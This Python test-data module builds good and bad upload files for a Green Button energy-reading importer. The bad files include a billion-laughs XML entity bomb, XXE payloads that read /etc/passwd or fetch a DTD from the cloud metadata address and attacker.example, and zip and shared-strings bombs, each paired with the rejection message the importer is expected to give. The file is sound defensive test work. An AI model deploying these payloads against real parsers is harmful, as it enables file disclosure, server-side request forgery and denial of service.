# ruff: noqa: E501 - the corpus is a table, one file per line
"""The formats' part of the test corpus (make_corpus.py adds these to bad/ and good/):
malformed XML (entity bombs, external entities, truncated feeds), broken workbooks,
zip bombs and broken zips. Files ending in .zip are sent as a batch (the upload form's
path for zips); the others as one upload for the meter "Main" (America/New_York, 60 min).
"""

import io
import re
import sys
import zipfile
from datetime import UTC, datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from tests.data import espi  # noqa: E402

T0 = datetime(2024, 1, 15, tzinfo=UTC)


def repack(data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
           level: int = 6) -> bytes:  # fmt: skip
    """The same archive with fixed member dates (so the corpus is byte-for-byte reproducible)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as dst:
        for info in src.infolist():
            body = (replace or {}).get(info.filename, src.read(info.filename))
            if info.filename == "docProps/core.xml":  # openpyxl stamps the time of saving
                body = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2024-01-01T00:00:00Z", body)
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=(2024, 1, 1, 0, 0, 0)), body, zipfile.ZIP_DEFLATED)
        for name, body in (add or {}).items():
            dst.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def workbook(rows: list[list], sheet: str = "Readings") -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.title = sheet
    for row in rows:
        book.active.append(row)
    fixed = datetime(2024, 1, 1)
    book.properties.created = book.properties.modified = fixed
    out = io.BytesIO()
    book.save(out)
    return repack(out.getvalue())


def zipped(files: dict[str, bytes], level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def feed(hours: int = 24, **channel) -> bytes:
    ch = espi.Channel(readings=espi.hourly(T0, hours), **channel)
    return espi.feed([espi.Point("Main service", channels=[ch])])


GOOD_FEED = feed()
GOOD_XLSX = workbook([["Interval Start", "kWh"]] + [[datetime(2024, 1, 15, h), 1.5 + h] for h in range(24)])
PROLOG = b'<?xml version="1.0" encoding="UTF-8"?>\n'
BODY = GOOD_FEED.split(b"?>\n", 2)[2]  # the feed without its XML declaration and stylesheet PI

LAUGHS = b"".join(
    [b'<!DOCTYPE feed [\n <!ENTITY lol "lol">\n']
    + [f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode() for i in range(1, 10)]
    + [b"]>\n"]
)
BOMB_FEED = PROLOG + LAUGHS + BODY.replace(b"<title>Main service</title>", b"<title>&lol9;</title>")
XXE_FEED = (
    PROLOG
    + b'<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + BODY.replace(b"<title>Main service</title>", b"<title>&xxe;</title>")
)
XXE_NETWORK = PROLOG + b'<!DOCTYPE feed SYSTEM "http://169.254.169.254/latest/meta-data/espi.dtd">\n' + BODY
PARAM_ENTITY = PROLOG + b'<!DOCTYPE feed [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>\n' + BODY

# Every reading's value is text, and one reading's start is not epoch seconds.
BAD_VALUES = re.sub(
    rb"<value>(\d+)</value>\n        </IntervalReading>",
    rb"<value>\1 Wh</value>\n        </IntervalReading>",
    GOOD_FEED,
)
BAD_VALUES = BAD_VALUES.replace(b"<start>1705287600</start>", b"<start>yesterday</start>", 1)
POWER = feed(uom=38)  # ESPI uom 38 is W (demand), not energy
NO_READING_TYPE = GOOD_FEED.replace(b"<ReadingType ", b"<NotAReadingType ").replace(
    b"</ReadingType>", b"</NotAReadingType>"
)
NO_READINGS = espi.feed([espi.Point("Main service", channels=[espi.Channel(readings=[])])])
SHEET_GARBAGE = repack(
    GOOD_XLSX,
    replace={"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row><c r='A1' t='s'><v>99999</v></c></row><row"},
)
SHARED_STRINGS_BOMB = repack(
    GOOD_XLSX,
    add={
        "xl/sharedStrings.xml": b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + b"<si><t>aaaaaaaaaaaaaaaa</t></si>" * 1_500_000
        + b"</sst>"
    },
    level=9,
)

BAD: dict[str, tuple[bytes, str, bool]] = {
    "xml_billion_laughs.xml": (BOMB_FEED, "declares a DTD", False),
    "xml_external_entity_file.xml": (XXE_FEED, "declares a DTD", False),
    "xml_external_dtd_network.xml": (XXE_NETWORK, "declares a DTD", False),
    "xml_parameter_entity.xml": (PARAM_ENTITY, "declares a DTD", False),
    "xml_truncated_feed.xml": (GOOD_FEED[: len(GOOD_FEED) // 2], "The XML is malformed", False),
    "xml_mismatched_tags.xml": (
        GOOD_FEED.replace(b"</IntervalBlock>", b"</IntervalBlok>", 1),
        "The XML is malformed",
        False,
    ),
    "xml_not_green_button.xml": (
        PROLOG + b"<rss version='2.0'><channel><title>News</title></channel></rss>\n",
        "not a Green Button (ESPI) Atom feed",
        False,
    ),
    "xml_utf16_declared_utf8.xml": (GOOD_FEED.decode().encode("utf-16-le"), "not", False),
    "greenbutton_no_readings.xml": (NO_READINGS, "holds no IntervalReading", False),
    "greenbutton_no_reading_type.xml": (NO_READING_TYPE, "has no ReadingType", False),
    "greenbutton_bad_values.xml": (BAD_VALUES, "value is not a number", False),
    "greenbutton_power_not_energy.xml": (POWER, "Unknown unit 'W'", False),
    "xlsx_truncated.xlsx": (GOOD_XLSX[: len(GOOD_XLSX) // 2], "Excel (.xlsx) file is damaged", False),
    "xlsx_zip_without_workbook.xlsx": (
        zipped({"readings.csv": b"timestamp,value\n2024-01-15T00:00:00Z,1\n"}),
        "not an Excel (.xlsx) workbook",
        False,
    ),
    "xlsx_corrupt_sheet.xlsx": (SHEET_GARBAGE, "Excel", False),
    "xlsx_shared_strings_bomb.xlsx": (SHARED_STRINGS_BOMB, "zip bomb", False),
    "xlsx_empty_sheet.xlsx": (workbook([]), "is empty", False),
    "xlsx_text_values.xlsx": (
        workbook([["timestamp", "value"], [datetime(2024, 1, 15), "n/a"], [datetime(2024, 1, 15, 1), "twelve"]]),
        "value is not a number",
        False,
    ),
    "xlsx_header_only.xlsx": (workbook([["timestamp", "value"]]), "header but no data rows", False),
    "unknown_unit.csv": (
        b"timestamp,value,unit\n2024-01-15T00:00:00Z,1,kWhh\n2024-01-15T01:00:00Z,2,barrels\n",
        "Unknown unit 'kWhh'",
        False,
    ),
    "zip_bomb.zip": (
        zipped({"readings.csv": b"timestamp,value\n" + b"0" * 30 * 1024 * 1024}, level=9),
        "zip bomb",
        False,
    ),
    "zip_truncated.zip": (zipped({"a.xml": GOOD_FEED, "b.xlsx": GOOD_XLSX})[:4000], "zip file is damaged", False),
    "zip_empty.zip": (zipped({}), "holds no files", False),
    "zip_only_hidden_files.zip": (
        zipped({"__MACOSX/._a.csv": b"\x00\x05", ".DS_Store": b"Bud1"}),
        "holds no files",
        False,
    ),
    "zip_nested.zip": (
        zipped({"inner.zip": zipped({"a.csv": b"timestamp,value\n2024-01-15T00:00:00Z,1\n"})}),
        "zip inside the zip",
        False,
    ),
}

# name -> (bytes, rows stored, first stored instant (UTC, ISO), its value, meter column?)
GOOD: dict[str, tuple[bytes, int, str, float, bool]] = {
    "greenbutton_hourly.xml": (GOOD_FEED, 24, "2024-01-15T00:00:00+00:00", 0.4, False),
    "readings_excel.xlsx": (GOOD_XLSX, 24, "2024-01-15T05:00:00+00:00", 1.5, False),
}
